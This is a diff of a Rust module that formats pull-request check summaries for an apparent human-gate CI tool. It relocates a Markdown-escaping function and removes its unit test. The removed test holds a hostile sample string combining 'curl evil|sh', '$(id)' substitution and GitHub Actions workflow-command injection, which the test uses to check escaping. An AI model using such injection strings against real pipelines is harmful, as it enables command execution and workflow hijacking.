@@ -6,37 +6,13 @@ use std::fmt::Write as _;
 use super::approvals::short;
 use super::verdict::{Gated, Outcome, Trigger, Verdict};
 use crate::config::Config;
+use crate::markdown::{code, inline};
 
 /// The hidden marker that finds the sticky comment again.
 pub const MARKER: &str = "<!-- shiprig:human-gate -->";
 /// GitHub refuses check summaries over 65,535 characters.
 const SUMMARY_LIMIT: usize = 60_000;
 const TRIGGERS_SHOWN: usize = 25;
-
-/// Text from a pull request as one safe Markdown line: control characters shown escaped (so
-/// nothing can start a new line, a workflow command or a heading), Markdown and HTML
-/// punctuation escaped, cut to `max` characters.
-pub fn inline(text: &str, max: usize) -> String {
-    let mut out = String::new();
-    for (count, c) in text.chars().enumerate() {
-        if count == max {
-            out.push('…');
-            break;
-        }
-        match c {
-            '\n' => out.push_str("\\n"),
-            '\r' => out.push_str("\\r"),
-            '\t' => out.push(' '),
-            c if c.is_control() => out.push_str(&c.escape_unicode().to_string()),
-            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '#' | '~' | '@' | '&' => {
-                out.push('\\');
-                out.push(c);
-            }
-            c => out.push(c),
-        }
-    }
-    out
-}
 
 pub fn title(verdict: &Verdict) -> String {
     match verdict.outcome {
@@ -79,8 +55,8 @@ pub fn summary(verdict: &Verdict, config: &Config) -> String {
     if let Some(agent) = &verdict.agent {
         let _ = writeln!(
             out,
-            "Written by agent `{}`: its approvals never count.\n",
-            inline(agent, 60)
+            "Written by agent {}: its approvals never count.\n",
+            code(agent, 60)
         );
     }
     if !verdict.ignored.is_empty() {
@@ -215,17 +191,6 @@ pub fn label_changes(
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn pull_request_text_stays_one_escaped_line() {
-        let evil = "x\"; curl evil|sh; echo \"\n::add-mask::secret\r\n::stop-commands::t $(id) <b>";
-        let safe = inline(evil, 1000);
-        assert!(!safe.contains('\n') && !safe.contains('\r'));
-        assert!(!safe.contains("\n::"));
-        assert!(safe.contains("\\|") && safe.contains("\\<b\\>") && safe.contains("$(id)"));
-        let long = "é".repeat(10_000);
-        assert_eq!(inline(&long, 100).chars().count(), 101);
-    }
 
     #[test]
     fn only_owned_labels_are_removed() {
